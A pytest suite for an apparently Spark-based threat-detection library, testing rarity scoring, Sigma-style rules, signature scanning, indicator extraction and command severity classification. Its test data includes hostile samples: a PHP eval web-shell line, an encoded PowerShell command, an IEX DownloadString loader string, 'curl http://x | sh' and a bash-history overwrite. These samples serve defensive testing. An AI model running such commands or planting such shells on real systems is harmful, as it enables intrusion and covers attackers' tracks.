import random
from datetime import datetime, timedelta

import pytest
from pyspark.sql import Window
from pyspark.sql import functions as F

from spoorline.functions.text import payload
from spoorline.operators import correlate, filters, indicators, rarity, rules, running, scoring, signatures, skew
from spoorline.operators.normalize import normalize, number_artifacts, with_valid_techniques

T0 = datetime(2024, 3, 1)


def events(spark, rows, schema="id long, event_time timestamp, event_type string, severity string, message string, data map<string,string>"):
    return normalize(spark.createDataFrame(rows, schema))


def test_running_matches_plain_windows_on_a_hot_group(spark):
    rng = random.Random(3)
    rows = [("hot" if rng.random() < 0.5 else rng.choice("abc"), i, rng.choice([None, 1, 2, 5])) for i in range(600)]
    df = spark.createDataFrame(rows, "g string, n long, v int")
    w = Window.partitionBy("g").orderBy("n")
    upto, before = w.rowsBetween(Window.unboundedPreceding, 0), w.rowsBetween(Window.unboundedPreceding, -1)
    v = F.col("v")
    got = running.running(
        df, ["g"], ["n"], F.floor(F.col("n") / 37).cast("long"),
        s=running.RunningSum(v), si=running.RunningSum(v, True), lo=running.RunningMin(v), last=running.LastKnown(v),
        first=running.FirstKnown(v), prev=running.Previous(v), total=running.GroupTotal(v),
    )
    want = df.select(
        "g", "n", "v", F.coalesce(F.sum(v).over(before), F.lit(0)).alias("s"),
        F.coalesce(F.sum(v).over(upto), F.lit(0)).alias("si"), F.min(v).over(before).alias("lo"),
        F.last(v, True).over(upto).alias("last"), F.first(v, True).over(upto).alias("first"),
        F.lag(v).over(w).alias("prev"), F.sum(v).over(Window.partitionBy("g")).alias("total"),
    )
    assert sorted(map(tuple, got.collect()), key=lambda r: r[1]) == sorted(map(tuple, want.collect()), key=lambda r: r[1])


def test_salted_join_is_a_left_join(spark):
    rows = spark.createDataFrame([(i, "hot" if i % 2 else f"k{i % 5}") for i in range(200)], "id long, k string")
    facts = spark.createDataFrame([("hot", 1), ("k2", 2)], "k string, f int")
    got = skew.salted_join(rows, facts, ["k"], ["id"]).select("id", "f").collect()
    want = rows.join(facts, "k", "left").select("id", "f").collect()
    assert sorted(got) == sorted(want)


def brute_bursts(rows, width, least):
    out = {}
    for parent in {p for p, _ in rows}:
        times = sorted(t for p, t in rows if p == parent)
        best, at, start = 0, None, 0
        for end, t in enumerate(times):
            while t - times[start] > width:
                start += 1
            if end - start + 1 > best:
                best, at = end - start + 1, times[start]
        if best >= least and len({t // 86_400_000_000 for t in times}) <= 1:
            out[parent] = (best, at)
    return out


def test_bursts_match_a_sliding_window(spark):
    rng = random.Random(11)
    base = int(T0.timestamp()) // 86400 * 86400 * 1_000_000
    rows = [(f"p{rng.randrange(6)}", base + rng.randrange(0, 3_000) * 1_000_000) for _ in range(500)]
    rows += [("edge", base + 600_000_000 - 30_000_000 + i * 7_000_000) for i in range(9)]
    rows += [("two_days", base + i * 1_000_000) for i in range(20)] + [("two_days", base + 90_000_000_000)]
    df = spark.createDataFrame(rows, "parent string, ts_epoch long").withColumn(
        "event_date", F.to_date(F.timestamp_micros("ts_epoch")))
    got = {r.parent: (r.children, r.window_start) for r in rarity.spawn_bursts(df, "parent").collect()}
    assert got == brute_bursts(rows, 60_000_000, 8) and "two_days" not in got and "edge" in got


def process(i, at, image, parent, severity="info", why=None):
    data = {"new_process_name": f"C:\\bin\\{image}", "parent_process_name": f"C:\\bin\\{parent}"}
    return (i, at, "process_created", severity, "m", {**data, **({"why": why} if why else {})})


def test_rarity_promotes_and_never_lowers(spark):
    rows, n = [], 0
    for day in range(30):
        for _ in range(15):
            n += 1
            rows.append(process(n, T0 + timedelta(days=day, minutes=n % 600), "chat.exe", "shell.exe"))
    rows.append(process(9001, T0, "odd.exe", "shell.exe"))
    rows.append(process(9002, T0, "odd.exe", "shell.exe", "high"))
    rows += [process(9100 + i, T0 + timedelta(seconds=i), "cmd.exe", "implant.exe", why="before") for i in range(12)]
    got = {r.id: r for r in rarity.rarity_promote(events(spark, rows)).collect()}
    assert len(got) == len(rows)
    assert got[1].severity == "info" and got[1].tags == []
    assert got[9001].severity == "med" and got[9001].tags == ["rare_binary", "rare_parent_child"]
    assert got[9002].severity == "high" and got[9002].tags == []
    assert got[9100].severity == "med" and "spawn_burst" in got[9100].tags
    assert got[9100].data["why"].startswith("before; cmd.exe ran 12x on 1 day(s)")
    kept = {r.id: r.tags for r in rarity.rarity_promote(events(spark, rows), keep_tags=True).collect()}
    assert kept[9002] == ["rare_binary", "rare_parent_child"]


def test_unknown_binary_against_another_host(spark):
    rows = events(spark, [process(1, T0, "a.exe", "x.exe"), process(2, T0, "b.exe", "x.exe")])
    got = rarity.score_against(rows, rows.filter("id = 1")).filter("unknown_binary").collect()
    assert [r.image for r in got] == ["b.exe"]


def test_notable_keeps_variety(spark):
    rows = [(i, T0 + timedelta(minutes=i), "service_installed", "high", "m", {}) for i in range(80)]
    rows += [(100 + i, T0, f"kind{i}", "high", "m", {}) for i in range(3)]
    df = events(spark, rows)
    kinds = [r.event_type for r in correlate.notable_events(df).collect()]
    assert kinds.count("service_installed") == 4 and len(kinds) == 7
    assert correlate.notable_total(df).first().notable_total == 83


def test_normalize_fills_in(spark):
    rows = [(1, T0, "run_key", "weird", "Head ¦ tail", {})]
    got = events(spark, rows).first()
    assert (got.severity, got.title, got.details, got.sev_rank) == ("info", "Run key", "tail", 0)
    local = spark.createDataFrame([(1, "2024-03-01 10:00:00")], "id long, t string").select("id", F.col("t").cast("timestamp_ntz").alias("local_time"))
    assert normalize(local, zone="America/Chicago").first().ts == "2024-03-01 16:00:00"
    table = spark.createDataFrame([("T1078",)], "technique_id string")
    ids = spark.createDataFrame([(["t1078", "T9999", "T1078"],)], "attck array<string>")
    assert with_valid_techniques(ids, table).first().attck == ["T1078"]
    assert with_valid_techniques(ids, table.filter("false")).first().attck == ["T1078", "T9999"]


def test_filters_and_search(spark):
    rows = [(i, T0 + timedelta(hours=i), "logon" if i % 2 else "logoff", "med" if i % 3 == 0 else "info",
             f"Übung 100% done {i}", {"k": f"a_{i}"}) for i in range(6)]
    df = events(spark, rows)
    pick = lambda frame: sorted(r.id for r in frame.collect())
    assert pick(filters.timeline(df, filters.EventFilter(start=T0 + timedelta(hours=1), end=T0 + timedelta(hours=3)))) == [1, 2, 3]
    assert pick(filters.timeline(df, filters.EventFilter(event_type="logon", min_severity="med"))) == [3]
    assert [r.id for r in filters.timeline(df, filters.EventFilter(order="desc", limit=2)).collect()] == [5, 4]
    assert pick(filters.search(df, "ubung don*")) == list(range(6))
    assert pick(filters.search_like(df, "100% DONE 4")) == [4]
    assert pick(filters.search_like(df, "1_0%")) == []
    assert pick(filters.search(df, "a_[45]", filters.EventFilter(min_severity="low"), regex=True)) == []
    assert pick(filters.search(df, "done [35]", filters.EventFilter(min_severity="med"), regex=True)) == [3]
    with pytest.raises(ValueError):
        filters.search_regex(df, "(")


def rule(detection, **more):
    return {"title": "t", "id": more.pop("id", "x"), "detection": detection, **more}


def hits(spark, rules_, rows=None, prefilter=False):
    rows = rows or [
        (1, T0, "process_created", "info", "Run powershell now", {"command_line": "powershell -enc AAAA", "new_process_name": "C:\\a\\powershell.exe"}),
        (2, T0, "process_created", "info", "other", {"command_line": "cmd /c dir", "image": "C:\\a\\cmd.exe", "empty": ""}),
    ]
    df = events(spark, rows).withColumn("event_id", F.lit("4688"))
    return sorted((r.rule, r.id) for r in rules.evaluate_rules(df, rules_, prefilter).collect())


def test_rule_language(spark):
    cases = {
        "contains": {"s": {"CommandLine|contains": "-ENC"}, "condition": "s"},
        "cased": {"s": {"CommandLine|contains|cased": "-ENC"}, "condition": "s"},
        "wild": {"s": {"Image": "*\\power*.exe"}, "condition": "s"},
        "all": {"s": {"CommandLine|contains|all": ["cmd", "dir"]}, "condition": "s"},
        "null": {"s": {"Absent": None, "Image|endswith": "cmd.exe"}, "condition": "s"},
        "dash": {"s": {"CommandLine|contains|windash": "cmd -c"}, "condition": "s"},
        "re": {"s": {"CommandLine|re": "^cmd.+dir$"}, "condition": "s"},
        "keyword": {"k": ["POWERSHELL", "zzz"], "condition": "k"},
        "not": {"a": {"Image|contains": "a"}, "b": {"Missing": "x"}, "condition": "a and not b"},
        "of": {"sel_a": {"CommandLine|contains": "dir"}, "sel_b": {"CommandLine|contains": "enc"}, "condition": "1 of sel_*"},
        "them": {"a": {"CommandLine|contains": "dir"}, "b": {"Image|contains": "cmd"}, "condition": "all of them"},
        "unknown": {"a": {"CommandLine|contains": "dir"}, "condition": "a and nobody"},
        "paren": {"a": {"CommandLine|contains": "dir"}, "b": {"CommandLine|contains": "enc"}, "c": {"Image|contains": "cmd"},
                  "condition": "(a or b) and not c"},
    }
    want = {"contains": {1}, "cased": set(), "wild": {1}, "all": {2}, "null": {2}, "dash": {2}, "re": {2}, "keyword": {1},
            "not": {1, 2}, "of": {1, 2}, "them": {2}, "unknown": set(), "paren": {1}}
    corpus = [rule(d, id=n) for n, d in cases.items()]
    got = hits(spark, corpus)
    assert {n: {i for r, i in got if r == n} for n in cases} == want
    assert hits(spark, corpus, prefilter=True) == got


def test_unusable_rules_are_listed():
    bad = [
        rule({"s": {"A|near": 1}, "condition": "s"}, id="modifier"),
        rule({"s": {"A": 1}, "condition": "s | count() > 3"}, id="aggregation"),
        rule({"s": {"A": 1}, "condition": "s s"}, id="trailing"),
        rule({"s": {"A": 1}, "condition": "(s"}, id="open"),
        rule({"condition": "s"}, id="empty"),
        rule({"s": {"A|re": "("}, "condition": "s"}, id="pattern"),
        rule({"s": {"A": 1}, "condition": "s"}, id="cloud", logsource={"product": "aws"}),
    ]
    compiled_ids = [name for name, _ in _skipped(bad)]
    assert compiled_ids == ["modifier", "aggregation", "trailing", "open", "empty", "pattern", "cloud"]


def _skipped(rules_):
    from pyspark.sql import SparkSession

    assert SparkSession.getActiveSession() is not None
    return rules.compile_rules(rules_).skipped


def test_base64_offsets():
    import base64

    for lead in (b"", b"x", b"xy"):
        whole = base64.b64encode(lead + b"attack me" + b"tail").decode()
        assert any(v in whole for v in rules._offset_variants("attack me"))


def test_scopes_route_rules(spark):
    d = {"s": {"CommandLine|contains": "dir"}, "condition": "s"}
    corpus = [rule(d, id="pc", logsource={"category": "process_creation"}), rule(d, id="dns", logsource={"category": "dns_query"}),
              rule(d, id="lin", logsource={"product": "linux"}), rule(d, id="svc", logsource={"service": "sysmon"})]
    assert hits(spark, corpus) == [("pc", 2)]


def test_hits_point_back_and_are_capped(spark):
    rows = [(i, T0 + timedelta(microseconds=5), "e", "info", f"m{i}", {"a": "1"}) for i in range(30)]
    df = events(spark, rows).withColumn("event_id", F.lit(""))
    found = rules.evaluate_rules(df, [rule({"s": {"a": 1}, "condition": "s"}, level="critical", tags=["attack.t1005"])])
    assert [r.id for r in rules.cap_hits(found, 5).orderBy("id").collect()] == [0, 1, 2, 3, 4]
    counts = rules.hit_counts(found, 5).first()
    assert (counts.hits, counts.capped) == (30, True)
    hit = rules.hit_events(found).orderBy(F.col("data.matched_event_id").cast("int")).first()
    assert hit.severity == "high" and hit.attck == ["T1005"] and hit.ts_epoch % 1_000_000 == 5
    assert rules.matched_events(rules.hit_events(found), df).count() == 30


def test_signature_conditions(spark):
    df = spark.createDataFrame([(1, "<?php eval($_POST['x']);"), (2, "<?php echo 1;"), (3, "IEX downloadstring net")], "id long, t string")
    signs = [
        {"name": "shell", "severity": "high", "strings": {"$p": "<?php", "$e1": {"regex": r"eval\s*\(\s*\$_(GET|POST)", "nocase": True},
         "$e2": "passthru"}, "condition": "$p and any of ($e1, $e2)"},
        {"name": "loader", "strings": {"$a": {"text": "DownloadString", "nocase": True}, "$d": {"text": "IEX", "fullword": True},
         "$z": "zz"}, "condition": "2 of them"},
    ]
    got = sorted((r.id, r.rule, r.severity, tuple(r.strings)) for r in signatures.scan_texts(df, "t", ["id"], signs).collect())
    assert got == [(1, "shell", "high", ("p", "e1")), (3, "loader", "high", ("a", "d"))]


def test_indicators_are_tagged_not_dropped(spark):
    text = ("see hxxp://bad[.]site/x, http://cdn.microsoft.com/a and ops@corp.org; 10.0.0.5 8.8.8.8 999.1.1.1 "
            "evil.exe good.org D41D8CD98F00B204E9800998ECF8427E 2001:db8:0:0:0:0:0:1 1:2:3 http://bad.site/x again good.org")
    df = spark.createDataFrame([(1, text)], "id long, t string")
    got = {(r.type, r.value): r.tags for r in indicators.extract_indicators(df, "t", ["id"]).collect()}
    assert got == {
        ("url", "http://bad.site/x"): [], ("url", "http://cdn.microsoft.com/a"): ["allowlisted"],
        ("email", "ops@corp.org"): [], ("ipv4", "10.0.0.5"): ["private"], ("ipv4", "8.8.8.8"): [],
        ("domain", "good.org"): [], ("md5", "d41d8cd98f00b204e9800998ecf8427e"): [],
        ("ipv6", "2001:db8:0:0:0:0:0:1"): ["private"],
    }
    only = spark.createDataFrame([(1, "at 1.2.3[.]4 and 5.6.7.8")], "id long, t string")
    tags = {r.value: r.tags for r in indicators.extract_indicators(only, "t", ["id"]).collect()}
    assert tags == {"1.2.3.4": ["defanged"], "5.6.7.8": []}


def test_scores(spark):
    cases = [
        ("C:\\Users\\a\\AppData\\Local\\qXzRt7Kp\\node.exe", "", "C:\\Windows\\powershell.exe", "high"),
        ("C:\\Program Files\\X\\winword.exe", "", "", "info"),
        ("C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\teams.exe", "", "", "info"),
        ("C:\\x\\npm.cmd", "npm.cmd install ws", "", "high"),
        ("C:\\x\\net.exe", "net session", "", "low"),
    ]
    df = spark.createDataFrame(cases, "i string, c string, p string, want string")
    for r in df.select("want", scoring.score_process(F.col("i"), F.col("c"), F.col("p"), F.lit(0)).alias("v")).collect():
        assert ("info", "low", "med", "high")[r.v.rank] == r.want, r
    services = [("cdpsvc_1a2b3c", "%SystemRoot%\\system32\\svchost.exe -k Grp", 0), ("x", "C:\\ProgramData\\q\\a.exe", 4),
                ("y", "C:\\Program Files\\Google\\u.exe", 1), ("z", "D:\\t\\a.exe", 3), ("w", "C:\\Windows\\System32\\a.exe", 2)]
    df = spark.createDataFrame(services, "n string, i string, want int")
    for r in df.select("want", scoring.score_service(F.col("n"), F.col("i"), F.lit(2)).alias("v")).collect():
        assert r.v.rank == r.want, r
    tasks = [("\\Microsoft\\Windows\\Defrag", "", 1), ("\\qXzRt7Kp", "", 3), ("\\Backup", "C:\\Users\\Public\\a.exe", 3), ("\\Mine", "", 2)]
    df = spark.createDataFrame(tasks, "n string, x string, want int")
    for r in df.select("want", scoring.score_task(F.col("n"), F.col("x"), F.lit(2)).alias("v")).collect():
        assert r.v.rank == r.want, r
    commands = [("curl http://x | sh", "high"), ("crontab -e", "med"), ("whoami", "low"), ("ls", "info"), ("echo a > ~/.bash_history", "high")]
    df = spark.createDataFrame(commands, "c string, want string")
    for r in df.select("want", scoring.classify_command(F.col("c")).alias("v")).collect():
        assert r.v.severity == r.want, r


def test_artifact_numbers_are_dense(spark):
    files = spark.range(500).select(F.concat(F.lit("/f"), "id").alias("path"), F.sha2(F.col("id").cast("string"), 256).alias("sha256"))
    ids = sorted(r.artifact_id for r in number_artifacts(files.union(files.limit(7))).collect())
    assert ids == list(range(1, 501))


def test_payload_drops_nulls(spark):
    got = spark.range(1).select(payload(a=F.lit(1), b=F.lit(None)).alias("m")).first().m
    assert got == {"a": "1"}


def test_bucketed_tables_join_without_an_exchange(spark):
    import os

    from spoorline.plans import catalog
    from spoorline.sinks import exports

    if not os.path.isdir("/root/testdata/sf0.001"):
        pytest.skip("no test tables")
    links, stored = catalog.bucketed_case(spark, "/root/testdata/sf0.001")
    old = spark.conf.get("spark.sql.autoBroadcastJoinThreshold")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        plan = exports.linked_events(links, stored)._jdf.queryExecution().executedPlan().toString()
    finally:
        spark.conf.set("spark.sql.autoBroadcastJoinThreshold", old)
    assert "Exchange" not in plan and "SortMergeJoin" in plan


def test_patterns_are_tried_only_where_their_hints_stand(spark):
    import random
    import time

    from spoorline.functions import network
    from spoorline.operators import indicators

    rng = random.Random(5)
    pieces = ["hXXps://", "FxP://", "[.]", "(.)", "{.}", "\t.\n", "\u000b.\f", "\r. ", " . ", "[DOT]", "(dot)", "[:]", "(:)", "[@]", "(At)",
              "[aT]", "[//]", "a1", "evil", "com", ".", "@", ":", "/", " ", "8", "d" * 32, "E" * 64, "2001:db8:1:2:3:4:5:6", "1.2.3.4"]
    texts = ["".join(rng.choices(pieces, k=14)) for _ in range(2000)] + [None, ""]
    rows = spark.createDataFrame([(t,) for t in texts], "t string")
    plain = F.col("t")
    for pattern, replacement in network.REFANG:
        plain = F.regexp_replace(plain, pattern, replacement)
    assert rows.where(~network.refang(F.col("t")).eqNullSafe(plain)).count() == 0
    found = indicators.extract_indicators(rows, "t", ["t"])
    kinds = {r["type"]: r["count"] for r in found.groupBy("type").count().collect()}
    assert kinds.keys() == {"url", "email", "md5", "sha256", "ipv4", "ipv6", "domain"} and min(kinds.values()) > 10
    # One long word without an @: the address pattern would start over at each of its pieces.
    word = spark.createDataFrame([("a%" * 250_000,)], "t string")
    start = time.monotonic()
    assert indicators.extract_indicators(word, "t", []).count() == 0
    assert time.monotonic() - start < 30
